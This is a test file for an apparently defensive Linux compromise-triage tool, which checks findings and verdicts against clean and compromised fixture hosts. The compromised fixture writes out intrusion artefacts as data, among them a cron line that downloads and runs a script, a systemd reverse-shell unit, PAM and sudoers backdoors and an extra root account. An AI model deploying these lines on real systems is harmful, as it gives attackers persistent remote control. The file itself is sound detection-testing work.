import assert from 'node:assert/strict';
import { createHash, generateKeyPairSync } from 'node:crypto';
import { chmodSync, mkdirSync, readFileSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { test } from 'node:test';
import { detectBundle } from '../../src/detect/bundle.js';
import { Finding } from '../../src/detect/finding.js';
import { Verdict } from '../../src/detect/verdict.js';
import { buildRoot } from '../fixture-root.js';
import { PROJECT, readFindings, runCli, tempDir } from '../helpers.js';

const SAVED_PROC = path.join(PROJECT, 'test/fixtures/proc/saved');
const ELF = readFileSync('/usr/bin/true');
const LONG_AGO = new Date('2025-03-01T00:00:00Z');
const md5 = (b: Buffer | string) => createHash('md5').update(b).digest('hex');

function put(root: string, rel: string, data: Buffer | string, opts: { mode?: number; old?: boolean } = {}): void {
  const p = path.join(root, rel);
  mkdirSync(path.dirname(p), { recursive: true });
  writeFileSync(p, data);
  if (opts.mode !== undefined) chmodSync(p, opts.mode);
  if (opts.old) utimesSync(p, LONG_AGO, LONG_AGO);
}

/** One glibc utmp record (384 bytes): type, pid, line, user, host, IPv4 address, time. */
function utmp(type: number, user: string, host: string, time: Date, line = 'ssh:notty'): Buffer {
  const r = Buffer.alloc(384);
  r.writeInt16LE(type, 0);
  r.writeInt32LE(4000, 4);
  r.write(line, 8, 32);
  r.write(user, 44, 32);
  r.write(host, 76, 256);
  r.writeInt32LE(Math.floor(time.getTime() / 1000), 340);
  Buffer.from(host.split('.').map(Number)).copy(r, 348);
  return r;
}
const LOGIN_PROCESS = 6;
const USER_PROCESS = 7;

/** An ssh-ed25519 authorized_keys line with a real key blob. */
function sshKey(comment: string): string {
  const raw = Buffer.from(generateKeyPairSync('ed25519').publicKey.export({ format: 'jwk' }).x!, 'base64url');
  const field = (b: Buffer) => {
    const len = Buffer.alloc(4);
    len.writeUInt32BE(b.length);
    return Buffer.concat([len, b]);
  };
  return `ssh-ed25519 ${Buffer.concat([field(Buffer.from('ssh-ed25519')), field(raw)]).toString('base64')} ${comment}\n`;
}

/** What every fixture host has, the same in the clean and the compromised one. */
function baseHost(dir: string): string {
  const root = buildRoot(dir);
  put(root, 'etc/passwd', 'root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\nalice:x:1000:1000:Alice:/home/alice:/bin/bash\n');
  put(root, 'etc/shadow', 'root:$y$j9T$abc$def:20000:0:99999:7:::\ndaemon:*:20000:0:99999:7:::\nwww-data:*:20000:0:99999:7:::\nalice:$y$j9T$ghi$jkl:20000:0:99999:7:::\n', { mode: 0o640 });
  put(root, 'etc/group', 'root:x:0:\ndaemon:x:1:\nwww-data:x:33:\nsudo:x:27:alice\nalice:x:1000:\n');
  put(root, 'etc/shells', '/bin/sh\n/bin/bash\n/usr/bin/bash\n');
  put(root, 'etc/crontab', 'SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n', { old: true });
  put(root, 'etc/sudoers', 'Defaults env_reset\nroot ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n', { mode: 0o440, old: true });
  put(root, 'etc/pam.d/common-auth', 'auth [success=1 default=ignore] pam_unix.so nullok\nauth requisite pam_deny.so\nauth required pam_permit.so\n', { old: true });
  put(root, 'usr/lib/x86_64-linux-gnu/security/pam_unix.so', 'pam unix\n');
  put(root, 'usr/lib/x86_64-linux-gnu/security/pam_deny.so', 'pam deny\n');
  put(root, 'usr/lib/x86_64-linux-gnu/security/pam_permit.so', 'pam permit\n');
  put(root, 'home/alice/.ssh/authorized_keys', sshKey('alice@laptop'), { mode: 0o600, old: true });
  put(root, 'home/alice/.bash_history', 'ls\ncd /srv\n', { old: true });
  put(root, 'var/log/auth.log', 'Nov 22 09:00:01 web01 sshd[812]: Accepted publickey for alice from 192.0.2.44 port 50122 ssh2\n');
  put(root, 'usr/bin/ps', 'original ps\n', { mode: 0o755 });
  put(root, 'var/lib/dpkg/status', 'Package: procps\nStatus: install ok installed\nArchitecture: amd64\nVersion: 2:4.0.2-3\nDescription: /proc file system utilities\n');
  put(root, 'var/lib/dpkg/info/procps.md5sums', `${md5('original ps\n')}  usr/bin/ps\n`);
  put(root, 'var/log/btmp', Buffer.concat([utmp(LOGIN_PROCESS, 'admin', '198.51.100.20', new Date('2026-11-20T08:00:00Z')), utmp(LOGIN_PROCESS, 'alice', '192.0.2.44', new Date('2026-11-22T08:59:00Z'))]));
  put(root, 'var/log/wtmp', utmp(USER_PROCESS, 'alice', '192.0.2.44', new Date('2026-11-22T09:00:01Z'), 'pts/0'));
  return root;
}

/** The compromised host: what Kinsing-, TeamTNT- and XorDDoS-style intrusions leave, one of each kind. */
function compromisedHost(dir: string): string {
  const root = baseHost(dir);
  put(root, 'etc/passwd', `${readFileSync(path.join(root, 'etc/passwd'), 'utf8')}sysadm:x:0:0::/root:/bin/bash\n`);
  put(root, 'var/spool/cron/crontabs/root', '# m h dom mon dow command\n*/5 * * * * curl -fsSL http://198.51.100.7/ldr.sh | sh\n', { mode: 0o600 });
  put(root, 'etc/ld.so.preload', '/usr/local/lib/libsystem.so\n');
  put(root, 'usr/local/lib/libsystem.so', ELF);
  mkdirSync(path.join(root, 'root'), { recursive: true });
  symlinkSync('/dev/null', path.join(root, 'root/.bash_history'));
  put(root, 'tmp/.x/kdevtmpfsi', ELF, { mode: 0o755 });
  put(root, 'tmp/.x/sh', ELF, { mode: 0o4755 });
  put(root, 'tmp/.\u001b[31mx', ELF, { mode: 0o755 });
  put(root, 'etc/init.d/qdsgmxqbqr', '#!/bin/sh\n/usr/bin/qdsgmxqbqr &\n', { mode: 0o755 });
  put(root, 'etc/systemd/system/dbus-helper.service', "[Unit]\nDescription=D-Bus helper\n\n[Service]\nExecStart=/bin/bash -c 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'\n\n[Install]\nWantedBy=multi-user.target\n");
  put(root, 'etc/pam.d/common-auth', `auth sufficient pam_succeed_if.so uid >= 0\n${readFileSync(path.join(root, 'etc/pam.d/common-auth'), 'utf8')}`);
  put(root, 'etc/sudoers.d/99-www', 'www-data ALL=(ALL) NOPASSWD: ALL\n', { mode: 0o440 });
  put(root, 'root/.ssh/authorized_keys', sshKey('mdrfckr'), { mode: 0o600 });
  put(root, 'usr/bin/ps', ELF, { mode: 0o755 });
  const guesses = Array.from({ length: 30 }, (_, i) => utmp(LOGIN_PROCESS, 'root', '203.0.113.50', new Date(Date.parse('2026-11-22T01:00:00Z') + i * 3000)));
  put(root, 'var/log/btmp', Buffer.concat([readFileSync(path.join(root, 'var/log/btmp')), ...guesses]));
  put(root, 'var/log/wtmp', Buffer.concat([readFileSync(path.join(root, 'var/log/wtmp')), utmp(USER_PROCESS, 'root', '203.0.113.50', new Date('2026-11-22T01:02:00Z'), 'pts/1')]));
  const sshd = (s: number, msg: string) => `Nov 22 01:${String(Math.floor(s / 60)).padStart(2, '0')}:${String(s % 60).padStart(2, '0')} web01 sshd[${900 + s}]: ${msg}\n`;
  const authLog = Array.from({ length: 30 }, (_, i) => sshd(i * 3, `Failed password for root from 203.0.113.50 port ${40000 + i} ssh2`)).join('') + sshd(120, 'Accepted password for root from 203.0.113.50 port 41000 ssh2');
  put(root, 'var/log/auth.log', authLog);
  utimesSync(path.join(root, 'var/log/auth.log'), new Date('2026-11-22T02:00:00Z'), new Date('2026-11-22T02:00:00Z'));
  return root;
}

test('a compromised image: findings name the planted things by rule and host path, and the verdict is compromised', async (t) => {
  const dir = tempDir(t);
  const root = compromisedHost(dir);
  const out = path.join(dir, 'case');
  const res = await runCli(['triage', '--root', root, '--proc', SAVED_PROC, '--out', out, '--skip', 'bodyfile']);
  assert.equal(res.code, 0, res.stderr);
  const findings = readFindings(out);
  const has = (id: string, p: string) => findings.some((f) => f.id === id && f.evidence.path === p);
  const expected: [string, string][] = [
    ['persistence.cron.download-exec', '/var/spool/cron/crontabs/root'],
    ['accounts.uid0-extra', '/etc/passwd'],
    ['persistence.ld-so-preload', '/etc/ld.so.preload'],
    ['files.history-to-null', '/root/.bash_history'],
    ['files.exec-hidden-in-temp', '/tmp/.x/kdevtmpfsi'],
    ['files.setid-temp-or-home', '/tmp/.x/sh'],
    ['persistence.rc.random-name', '/etc/init.d/qdsgmxqbqr'],
    ['persistence.systemd.reverse-shell', '/etc/systemd/system/dbus-helper.service'],
    ['persistence.pam.accept-anyone', '/etc/pam.d/common-auth'],
    ['persistence.sudoers.nopasswd-all', '/etc/sudoers.d/99-www'],
    ['persistence.ssh.known-bad-key', '/root/.ssh/authorized_keys'],
    ['logins.success-after-failures', '/var/log/wtmp'],
    ['files.package-rootkit-target-changed', '/usr/bin/ps'],
    ['process.exe.temp-dir', '/tmp/goldhour-fixture/sleepy'],
    ['logs.auth.ssh-success-after-failures', '/var/log/auth.log'],
  ];
  const missing = expected.filter(([id, p]) => !has(id, p));
  assert.deepEqual(missing, [], `found: ${JSON.stringify(findings.map((f) => [f.id, f.evidence.path]))}`);
  assert.equal(findings.find((f) => f.id === 'persistence.cron.download-exec')?.evidence.line, 2);
  assert.equal(typeof findings.find((f) => f.id === 'process.exe.temp-dir')?.pid, 'number');
  assert.ok(!findings.some((f) => f.evidence.path?.startsWith(root)), 'evidence paths are the host\'s own, never prefixed with --root');

  const verdict = Verdict.parse(JSON.parse(readFileSync(path.join(out, 'verdict.json'), 'utf8')));
  assert.equal(verdict.verdict, 'compromised');
  assert.ok(verdict.reasons.length > 0 && verdict.reasons[0]!.severity === 'critical');
  assert.match(res.stderr, /verdict: COMPROMISED — \d+ critical/);
  const summary = res.stderr.slice(res.stderr.indexOf('verdict:'));
  assert.ok(summary.indexOf('critical') < summary.indexOf('artefacts:'), 'the verdict and serious findings come before the bundle facts');
  assert.ok(!res.stderr.includes('\u001b'), 'names from the image are shown escaped');
  const custody = readFileSync(path.join(out, 'custody.jsonl'), 'utf8').trim().split('\n').map((l) => JSON.parse(l));
  assert.equal(custody.find((e) => e.event === 'detected')?.verdict, 'compromised');

  const offline = await detectBundle(out);
  assert.deepEqual(offline.findings, findings, 'detection over the bundle afterwards finds exactly what the triage found');
  assert.deepEqual(offline.verdict, verdict);
  assert.deepEqual(offline.rejected, {});

  const v = await runCli(['verify', out]);
  assert.equal(v.code, 0, v.stdout.toString());

  // A live triage keeps journalctl's export under commands/logs/ with a logs row naming the command: offline
  // detection reads it from there (the bundle is extended by hand here: --root runs no external program).
  const command = 'journalctl -o export --no-pager --since=-7d';
  const exported = readFileSync(path.join(PROJECT, 'test/fixtures/detect-logs/journal.export'));
  const stored = 'commands/logs/journalctl_-o_export_--no-pager_--since_-7d.stdout';
  mkdirSync(path.join(out, 'commands/logs'), { recursive: true });
  writeFileSync(path.join(out, stored), exported);
  const manifest = JSON.parse(readFileSync(path.join(out, 'manifest.json'), 'utf8'));
  const like = manifest.artifacts.find((a: { collector: string }) => a.collector === 'logs');
  manifest.artifacts.push({ ...like, path: stored, source: null, size: exported.length, sha256: createHash('sha256').update(exported).digest('hex') });
  writeFileSync(path.join(out, 'manifest.json'), JSON.stringify(manifest));
  const logRows = path.join(out, 'collectors/logs.jsonl');
  const aRow = JSON.parse(readFileSync(logRows, 'utf8').split('\n')[0]!);
  const exportRow = { ...aRow, path: command, category: 'journal-export', kind: null, targetKind: null, compression: null, copied: true, size: exported.length, bytesCopied: exported.length };
  writeFileSync(logRows, `${readFileSync(logRows, 'utf8')}${JSON.stringify(exportRow)}\n`);
  const withJournal = await detectBundle(out);
  assert.deepEqual(withJournal.rejected, {});
  assert.equal(withJournal.findings.find((f) => f.id === 'logs.auth.forged-sshd')?.evidence.path, command, 'the journal export is analysed offline too');
});

test('a clean image: verdict clean, no high or critical finding, and --json carries findings and verdict', async (t) => {
  const dir = tempDir(t);
  const root = baseHost(dir);
  const res = await runCli(['triage', '--root', root, '--out', path.join(dir, 'case'), '--json', '--skip', 'bodyfile']);
  assert.equal(res.code, 0, res.stderr);
  const doc = JSON.parse(res.stdout.toString()) as { findings: unknown[]; verdict: unknown };
  const findings = doc.findings.map((f) => Finding.parse(f));
  const serious = findings.filter((f) => f.severity === 'high' || f.severity === 'critical');
  assert.deepEqual(serious, []);
  assert.equal(Verdict.parse(doc.verdict).verdict, 'clean', JSON.stringify(findings.map((f) => [f.id, f.evidence.path])));
  assert.deepEqual(readFindings(path.join(dir, 'case')), findings);
});
